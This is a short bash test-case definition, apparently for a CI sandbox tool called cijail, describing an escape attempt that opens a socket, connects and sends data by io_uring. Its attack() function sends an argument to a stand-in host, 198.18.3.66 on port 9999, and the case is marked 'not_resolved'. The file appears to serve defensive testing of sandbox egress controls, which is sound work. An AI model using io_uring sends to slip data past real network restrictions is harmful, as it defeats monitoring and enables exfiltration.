# shellcheck shell=bash disable=SC2034,SC2154,SC2329
# SPDX-License-Identifier: GPL-3.0-or-later
title='socket, connect and send by io_uring' origin='RESEARCH §6, cijail'
sink=a reason='not_resolved' forms='output forward'
attack() { tool sockets.py uring 198.18.3.66 9999 "$1"; }
